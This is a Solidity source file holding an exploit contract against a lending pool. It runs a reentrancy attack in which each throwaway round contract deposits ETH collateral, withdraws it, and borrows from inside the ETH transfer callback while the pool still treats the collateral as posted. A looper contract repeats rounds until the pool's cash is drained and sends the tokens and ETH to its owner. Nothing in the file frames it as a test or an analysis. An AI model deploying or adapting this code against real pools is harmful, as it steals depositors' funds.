// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IPool {
    function asset() external view returns (IERC20);
    function cash() external view returns (uint256);
    function borrowLimit(uint256 collateral) external view returns (uint256);
    function depositCollateral() external payable;
    function withdrawCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
}

/// One fresh account per round: posts the ETH, withdraws it, and borrows against it from inside
/// the ETH transfer, while the pool still counts the collateral as posted.
contract LoopRound {
    address private immutable looper;

    constructor() {
        looper = msg.sender;
    }

    function go(IPool pool) external payable {
        require(msg.sender == looper, "not the looper");
        pool.depositCollateral{value: msg.value}();
        pool.withdrawCollateral(msg.value);
        IERC20 usd = pool.asset();
        usd.transfer(looper, usd.balanceOf(address(this)));
        (bool ok,) = looper.call{value: address(this).balance}("");
        require(ok, "eth back");
    }

    receive() external payable {
        IPool pool = IPool(msg.sender);
        // A hair under the limit: the pool rounds debt up.
        uint256 amount = pool.borrowLimit(msg.value) * 999 / 1000;
        uint256 cash = pool.cash();
        if (amount > cash) amount = cash;
        if (amount > 0) pool.borrow(amount);
    }
}

contract CollateralLooper {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    /// Runs rounds with the ETH sent until the pool has no cash left (or `maxRounds`).
    function run(IPool pool, uint256 maxRounds) external payable {
        require(msg.sender == owner, "not the owner");
        for (uint256 i = 0; i < maxRounds && pool.cash() > 0; i++) {
            new LoopRound().go{value: msg.value}(pool);
        }
        IERC20 usd = pool.asset();
        usd.transfer(owner, usd.balanceOf(address(this)));
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "eth back");
    }

    receive() external payable {}
}
